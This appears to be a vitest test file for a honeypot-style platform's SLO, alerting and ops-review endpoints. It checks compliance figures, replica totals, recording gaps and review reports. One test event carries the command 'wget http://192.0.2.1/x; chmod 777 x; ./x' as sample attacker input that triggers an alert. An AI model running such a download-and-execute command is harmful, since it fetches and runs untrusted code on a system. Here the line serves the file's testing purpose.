import type {
  Channel,
  GoldenSignals,
  HealthReview,
  OpsAlert,
  OpsTransition,
  SloDetail,
  SloStatus,
} from '@eviltwin/contract'
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
import { until } from '../../testing/until.js'

/** A line that the request log wrote at DEBUG: the raw material that the numbers must agree with. */
interface LoggedRequest {
  method: string
  route: string
  status: number
  duration_ms: number
}

describe.each(inject('postgresServers'))('SLOs on $version', (server) => {
  let api: TestPlatform
  let token: string
  const now = Date.now
  beforeAll(async () => {
    api = await startTestPlatform(server, { now })
    token = await api.login()
  })
  afterAll(() => api.close())

  const list = async (from = api, as = token) => {
    const response = await from.call('/slos', { as })
    return ((await response.json()) as { items: SloStatus[] }).items
  }
  const find = async (id: string, from = api, as = token) =>
    (await (await from.call(`/slos/${id}`, { as })).json()) as SloDetail
  const event = (n: number) =>
    JSON.stringify({ source_ip: '203.0.113.9', session: 's', n, occurred_at: new Date(now()).toISOString() })
  /** Moves what is recorded back in time, minute by minute, while no platform runs. */
  const letPass = async (databaseUrl: string, interval: string) => {
    const client = new pg.Client({ connectionString: databaseUrl })
    await client.connect()
    for (const sql of [
      'CREATE TEMPORARY TABLE moved AS SELECT * FROM signals',
      'TRUNCATE signals',
      `INSERT INTO signals SELECT series, span, bucket - ${interval}, recorder, total, good, sketch FROM moved WHERE span = 'minute'`,
      `INSERT INTO signals SELECT series, 'hour', date_trunc('hour', bucket), recorder, sum(total), sum(good) FROM signals
        WHERE span = 'minute' GROUP BY 1, 3, 4`,
      // Of a platform that lived for less than a second, nothing would be recorded before the gap, which has whole seconds.
      `UPDATE platform_runs SET started_at = started_at - ${interval} - interval '2 seconds', alive_until = alive_until - ${interval}`,
      `UPDATE recording_gap_search SET searched_until = searched_until - ${interval}`,
    ])
      await client.query(sql)
    await client.end()
  }
  const requests = (method: string, route: string) =>
    api.logged.filter(
      (line) =>
        line['message'] === 'Request completed' && line['method'] === method && line['route'] === route,
    ) as unknown as LoggedRequest[]

  test('the objectives are there, and say nothing where nothing happened', async () => {
    const slos = await list()
    expect(slos).toHaveLength(13)
    expect(slos.find(({ id }) => id === 'session-query-latency')).toMatchObject({
      state: 'no_data',
      compliance: null,
    })
  })

  test('numbers equal those recomputed from the raw request log', async () => {
    for (let n = 0; n < 60; n += 1) await api.send(event(n))
    for (let n = 0; n < 5; n += 1) await api.send('{')
    for (let n = 0; n < 20; n += 1) await api.call('/sessions', { as: token })
    await api.call('/sessions', { as: 'nobody' })
    await until(() => requests('POST', '/log').length >= 65 && requests('GET', '/sessions').length >= 21)
    for (const [id, method, route, limit] of [
      ['ingest-latency', 'POST', '/log', 500],
      ['session-query-latency', 'GET', '/sessions', 1000],
      ['auth-latency', 'POST', '/auth/login', 300],
    ] as const) {
      const slo = await find(id)
      const durations = requests(method, route)
        // Malformed events are not in the population of ingest; every request of the other routes is.
        .filter(({ status }) => route !== '/log' || status === 200)
        .map(({ duration_ms }) => duration_ms)
        .sort((a, b) => a - b)
      expect([id, slo.measured]).toEqual([
        id,
        { good: durations.filter((duration) => duration < limit).length, total: durations.length },
      ])
      // The sketch gives a value within 1 % of the one at the nearest rank.
      const exact = durations[Math.ceil(0.95 * durations.length) - 1] ?? 0
      expect(Math.abs((slo.percentile?.value_ms ?? 0) - exact)).toBeLessThanOrEqual(0.0101 * exact + 0.001)
    }
    const ingest = await find('ingest-availability')
    const served = requests('POST', '/log')
    const stored = served.filter(({ status }) => status === 200).length
    expect(ingest.measured).toEqual({ good: stored, total: stored })
    expect(ingest.literal).toEqual({ good: served.length, total: served.length, compliance: 1 })
    expect(ingest.population).toMatchObject({
      since: null,
      apart: [
        { population: 'refused_quota', requests: 0 },
        { population: 'client_error', requests: 5 },
        { population: 'unauthenticated', requests: 0 },
      ],
    })
    expect(ingest.openslo).toContain('apiVersion: openslo/v1')
    expect(ingest.history).toHaveLength(7 * 24 + 1)
  })

  test('replicas add up, and a restart forgets nothing', async () => {
    const before = (await find('ingest-latency')).measured.total
    const replica = await startTestPlatform(server, { now, beside: api })
    const as = await replica.login()
    for (let n = 0; n < 7; n += 1) await replica.send(event(1000 + n))
    await until(async () => (await find('ingest-latency', replica, as)).measured.total === before + 7)
    await replica.close()
    expect((await find('ingest-latency')).measured.total).toBe(before + 7)
  })

  test('time without a platform is a gap, the same in headline, burn rates, alerts, history and words', async () => {
    const other = await startTestPlatform(server)
    for (let n = 0; n < 10; n += 1) await other.send(event(n))
    await find('ingest-availability', other, await other.login())
    await other.platform.close()
    await letPass(other.databaseUrl, "interval '20 minutes'")
    const restarted = await startTestPlatform(server, { beside: other })
    const as = await restarted.login()
    const slo = await until(async () => {
      const found = await find('ingest-availability', restarted, as)
      return found.gaps.intervals.length > 0 && found
    })
    expect(slo.gaps.seconds).toBeGreaterThanOrEqual(1_200)
    expect(slo.gaps.seconds).toBeLessThan(1_260)
    expect(slo.gaps.intervals).toMatchObject([{ method: 'hour_before' }])
    expect(slo.gaps.assumed_bad).toBeGreaterThan(10)
    expect(slo.judged).toEqual({ good: 10, total: 10 + slo.gaps.assumed_bad })
    expect(slo.state).toBe('breached')
    expect(slo.burn_rates.find(({ window }) => window === '1h')?.rate).toBeGreaterThan(14)
    expect(slo.burn_alerts.some(({ firing }) => firing)).toBe(true)
    expect(slo.history.reduce((sum, { total }) => sum + total, 0)).toBe(slo.judged.total)
    expect(slo.history.at(-1)).toMatchObject({ budget_remaining: slo.budget.remaining })
    expect(slo.explanation.join(' ')).toMatch(/For 2\d min .* an estimate between [\d,]+ and [\d,]+/)
    await restarted.close()
  })

  test('an alert that a client acknowledges is measured to its acknowledgement', async () => {
    const { openFeed } = await import('../../testing/test-feed.js')
    const feed = await openFeed(api, token)
    await api.send(
      JSON.stringify({
        source_ip: '203.0.113.77',
        session: 'x',
        occurred_at: new Date(now()).toISOString(),
        command: 'wget http://192.0.2.1/x; chmod 777 x; ./x',
      }),
    )
    const [alert] = await feed.until(1)
    feed.acknowledge(alert?.id ?? '')
    const slo = await until(async () => {
      const found = await find('alert-delivery-delay')
      return found.measured.total > 0 && found
    })
    expect(slo).toMatchObject({ state: 'met', measured: { good: 1, total: 1 } })
    await feed.close()
  })

  test('the review answers the checklist, in JSON and Markdown', async () => {
    const review = (await (await api.call('/ops/review', { as: token })).json()) as HealthReview
    expect(review.ingest_latency.requests.this_week).toBeGreaterThanOrEqual(65)
    expect(review.slos).toHaveLength(13)
    expect(review.ingest_latency.p95_ms.last_week).toBeNull()
    const response = await api.call('/ops/review?format=markdown', { as: token })
    expect(response.headers.get('content-type')).toContain('text/markdown')
    expect(await response.text()).toContain('## Has ingest latency trended upward?')
  })

  test('every figure of the review is that of the page about it', async () => {
    const get = async <Answer>(path: string) => (await (await api.call(path, { as: token })).json()) as Answer
    const { items: slos } = await get<{ items: SloStatus[] }>('/slos')
    const signals = await get<GoldenSignals>('/ops/signals?minutes=1440')
    const { items: history } = await get<{ items: OpsTransition[] }>('/ops/alerts/history?limit=500')
    const { items: rules } = await get<{ items: OpsAlert[] }>('/ops/alerts?kind=all')
    const { items: channels } = await get<{ items: Channel[] }>('/channels')
    const review = await get<HealthReview>('/ops/review')

    expect(review.slos).toEqual(
      slos.map(({ name, state, compliance, budget }) => ({
        name,
        state,
        compliance,
        budget_remaining: budget.remaining,
      })),
    )
    expect(review.llm.availability.this_week).toBe(
      slos.find(({ id }) => id === 'ai-availability')?.compliance,
    )
    // The platform is younger than a week.
    expect(review.llm.availability.last_week).toBeNull()
    const ingest = signals.routes.find(({ route }) => route === 'POST /log')
    expect(review.ingest_latency.requests.this_week).toBe(ingest?.requests)
    expect(review.ingest_latency.p95_ms.this_week).toBe(ingest?.p95_ms)
    const requests = signals.routes.reduce((sum, route) => sum + route.requests, 0)
    for (const name of ['server_error_rate', 'unanswered_rate'] as const) {
      const failed = signals.routes.reduce((sum, route) => sum + route[name] * route.requests, 0)
      // The requests of this test itself are in the later figure.
      const { this_week: rate } = review.errors[name]
      expect(rate).toBeLessThanOrEqual(failed / requests)
      expect(rate).toBeGreaterThanOrEqual(failed / (requests + 10))
    }
    const fired = (id: string) => history.filter((row) => row.rule_id === id && row.event === 'firing').length
    expect(review.operational_alerts.map(({ name, fired: times }) => [name, times]).sort()).toEqual(
      rules
        .filter(({ id }) => fired(id) > 0)
        .map(({ id, name }) => [name, fired(id)])
        .sort(),
    )
    for (const [name, { peak, max }] of Object.entries(review.database_pool.peak_use)) {
      const pools = signals.replicas.map((replica) => replica.pools[name])
      expect(max).toBe(pools[0]?.max)
      expect(peak).toBeGreaterThanOrEqual(Math.max(...pools.map((pool) => pool?.peak_used ?? 0)))
    }
    expect(review.channels.failed.this_week).toBe(channels.reduce((sum, { dead }) => sum + dead, 0))
    expect(review.channels.given_up).toEqual(review.channels.failed)
  })

  test('an objective that is not there is a 404', async () => {
    expect((await api.call('/slos/nothing', { as: token })).status).toBe(404)
  })
})
